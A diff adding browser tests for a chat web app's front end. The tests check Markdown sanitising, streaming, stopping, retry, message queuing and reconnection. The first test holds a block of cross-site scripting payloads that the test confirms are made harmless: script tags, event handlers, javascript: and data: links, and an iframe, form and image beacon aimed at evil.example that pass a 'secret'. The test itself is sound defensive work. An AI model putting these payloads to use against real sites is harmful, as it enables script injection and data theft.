@@ -1,0 +1,172 @@
+import { afterEach, beforeAll, afterAll, describe, expect, it } from "vitest";
+import { has } from "../../requirements.ts";
+import { chunk, done, sse } from "../../simulators/gateway/corpus-row.ts";
+import {
+  startScriptedGateway,
+  type ScriptedAnswer,
+  type ScriptedGateway,
+} from "../../simulators/gateway/scripted-gateway.ts";
+import { answerAfter, field, say, startPageStory, type PageStory } from "./page-story.ts";
+
+const hostile = `
+<script>window.pwned = 1</script>
+<img src="/nothing" onerror="window.pwned = 2">
+<svg onload="window.pwned = 3"></svg>
+<iframe src="https://evil.example/"></iframe>
+<form action="https://evil.example/"><input name="a"><button>Go</button></form>
+<style>body { display: none }</style>
+<p style="position:fixed;inset:0" class="drop-overlay" id="app">styled</p>
+
+[click me](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>)
+[inside](/api/logout) [fine](https://example.org/page)
+
+![beacon](https://evil.example/pixel.png?secret=1)
+<img src="https://evil.example/raw.png" alt="raw">
+
+\`\`\`html
+<script>window.pwned = 6</script>
+\`\`\`
+`;
+
+const models = JSON.stringify({
+  object: "list",
+  data: [{ id: "m", object: "model", created: 1, owned_by: "test" }],
+});
+
+describe.skipIf(!has("chromium"))("the page when things go wrong", () => {
+  let gateway: ScriptedGateway;
+  let story: PageStory;
+  let answers: ((text: string) => ScriptedAnswer)[] = [];
+
+  beforeAll(async () => {
+    gateway = await startScriptedGateway((request) => {
+      if (request.path === "/v1/models")
+        return { body: models, headers: { "content-type": "application/json" } };
+      const next = answers.shift();
+      if (next === undefined) throw new Error("nothing scripted for this request");
+      return next(request.body.toString("utf8"));
+    });
+    story = await startPageStory({ GATEWAY_BASE_URL: gateway.baseUrl, CHAT_MODEL: "m" });
+  });
+  afterEach(() => {
+    answers = [];
+  });
+  afterAll(async () => {
+    await story?.close();
+    await gateway?.close();
+  });
+
+  it("makes hostile Markdown harmless", async () => {
+    answers = [() => sse(chunk({ content: hostile }), chunk({}, "stop"), done)];
+    const { page, problems } = await story.open();
+    await say(page, "Attack me.");
+    const answer = page.locator(".from-parley .markdown");
+    await answer.getByText("click me").waitFor();
+    expect(await page.evaluate("window.pwned")).toBeUndefined();
+    const forbidden = "script, style, iframe, form, input, svg, img, [style], [onerror], [onload], [id]";
+    expect(await answer.locator(forbidden).count()).toBe(0);
+    const links = await answer
+      .locator("a[href]")
+      .evaluateAll((all) =>
+        all.map((link) => ["href", "target", "rel"].map((name) => link.getAttribute(name))),
+      );
+    const safe = ["_blank", "noopener noreferrer nofollow"];
+    expect(links).toEqual([
+      ["https://example.org/page", ...safe],
+      ["https://evil.example/pixel.png?secret=1", ...safe],
+    ]);
+    expect(await answer.innerText()).toContain("Picture: beacon (evil.example)");
+    // Raw HTML is seen as what it is.
+    expect(await answer.innerText()).toContain('<img src="/nothing" onerror="window.pwned = 2">');
+    expect(await answer.locator("code").innerText()).toContain("<script>window.pwned = 6</script>");
+    // No request left for another host, and the policy had nothing to stop.
+    expect(problems).toEqual([]);
+    await page.context().close();
+  });
+
+  it("grows while the gateway streams, and stops when told to", async () => {
+    answers = [
+      () => ({ ...sse(chunk({ content: "First paragraph.\n\nSecond par" })), after: "hang" }),
+      () => sse(chunk({ content: "Again." }, "stop"), done),
+    ];
+    const { page } = await story.open();
+    await field(page).fill("Tell me");
+    await field(page).press("Enter");
+    await page.getByText("Second par").waitFor();
+    expect(await page.locator(".from-parley.is-growing").count()).toBe(1);
+    await page.getByRole("button", { name: "Stop the answer" }).click();
+    expect(await answerAfter(page, 0)).toContain("Stopped.");
+    expect(await answerAfter(page, 0)).toContain("Second par");
+    await page.getByRole("button", { name: "Stop the answer" }).waitFor({ state: "detached" });
+    expect(await say(page, "Once more")).toContain("Again.");
+    await page.context().close();
+  });
+
+  it("says why an answer failed, and Retry answers in the same place, also after a reload", async () => {
+    const refusal: ScriptedAnswer = {
+      status: 401,
+      body: JSON.stringify({ error: { message: "bad key", type: "x", param: null, code: null } }),
+    };
+    answers = [() => refusal, () => refusal, () => sse(chunk({ content: "Now it works." }, "stop"), done)];
+    const { page } = await story.open();
+    expect(await say(page, "Are you there?")).toContain("does not accept Parley's key");
+    await page.getByRole("button", { name: "Retry" }).click();
+    await expect.poll(() => answers.length).toBe(1);
+    await page.getByRole("button", { name: "Retry" }).waitFor();
+    await page.reload();
+    await page.getByRole("button", { name: "Retry" }).click();
+    await page.locator(".markdown", { hasText: "Now it works." }).waitFor();
+    expect(await page.locator(".message").count()).toBe(2);
+    expect(await page.getByRole("button", { name: "Retry" }).count()).toBe(0);
+    await page.reload();
+    await page.locator(".markdown", { hasText: "Now it works." }).waitFor();
+    expect(await page.locator(".message").count()).toBe(2);
+    await page.context().close();
+  });
+
+  it("answers messages that come meanwhile in one turn, each shown once", async () => {
+    answers = [
+      () => ({ ...sse(chunk({ content: "Thinking" })), after: "hang" }),
+      () => sse(chunk({ content: "Both heard." }, "stop"), done),
+    ];
+    const { page } = await story.open();
+    for (const text of ["One", "Two", "Three"]) {
+      await field(page).fill(text);
+      await field(page).press("Enter");
+      await page.locator(".bubble", { hasText: text }).waitFor();
+      if (text === "One") await page.getByText("Thinking").waitFor();
+    }
+    await page.getByRole("button", { name: "Stop the answer" }).click();
+    await page.locator(".markdown", { hasText: "Both heard." }).waitFor();
+    await answerAfter(page, 1);
+    const texts = await page.locator(".bubble, .markdown").allInnerTexts();
+    expect(texts).toEqual(["One", "Thinking", "Two", "Three", "Both heard."]);
+    await page.reload();
+    await page.locator(".markdown", { hasText: "Both heard." }).waitFor();
+    expect(await page.locator(".bubble, .markdown").allInnerTexts()).toEqual(texts);
+    await page.context().close();
+  });
+
+  it("says when Parley is away, keeps what was typed, and takes up when it is back", async () => {
+    answers = [
+      () => sse(chunk({ content: "Hello." }, "stop"), done),
+      () => sse(chunk({ content: "Back." }, "stop"), done),
+    ];
+    const { page } = await story.open();
+    await say(page, "Hello");
+    const ended = story.parley().ended;
+    story.parley().process.kill("SIGKILL");
+    await ended;
+    await page.getByText("Parley cannot be reached. Trying again…").waitFor();
+    await field(page).fill("Still there?");
+    await field(page).press("Enter");
+    await page.getByRole("alert").getByText("Parley cannot be reached.").waitFor();
+    expect(await field(page).inputValue()).toBe("Still there?");
+    await story.restart();
+    await page.getByText("Parley cannot be reached. Trying again…").waitFor({ state: "detached" });
+    await field(page).press("Enter");
+    expect(await answerAfter(page, 1)).toContain("Back.");
+    expect(await page.locator(".message").count()).toBe(4);
+    await page.context().close();
+  });
+});
